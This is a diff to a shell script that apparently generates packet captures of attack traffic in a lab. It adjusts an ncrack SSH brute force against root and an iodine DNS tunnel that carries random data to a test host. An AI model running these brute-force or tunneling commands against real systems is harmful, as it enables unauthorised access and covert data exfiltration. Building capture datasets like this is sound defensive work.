@@ -293,7 +293,7 @@ capture_medusa-ssh() {
 # ncrack-ssh: ncrack sshd
 capture_ncrack-ssh() {
 	sshd_on 22
-	words 40 >"$work/words"
+	words 22 >"$work/words"
 	record ncrack-ssh.pcap
 	a timeout 90 ncrack --user root -P "$work/words" -T4 198.51.100.2:22 >/dev/null 2>&1
 	recorded
@@ -332,8 +332,8 @@ capture_iodine() {
 	serve iodined -f -c -P secret 172.31.9.1 t.example.net
 	listening 53 u
 	record iodine.pcap
-	a timeout 20 iodine -f -r -P secret 198.51.100.2 t.example.net >>"$work/log" 2>&1 &
-	sleep 6
+	a timeout 60 iodine -f -r -P secret 198.51.100.2 t.example.net >>"$work/log" 2>&1 &
+	for _ in $(seq 40); do a ping -c 1 -W 1 172.31.9.1 >/dev/null 2>&1 && break; sleep 1; done
 	head -c 2000 /dev/urandom | a timeout 4 ncat -u 172.31.9.1 9999 >/dev/null 2>&1
 	a ping -c 5 -i 0.3 172.31.9.1 >/dev/null 2>&1
 	recorded
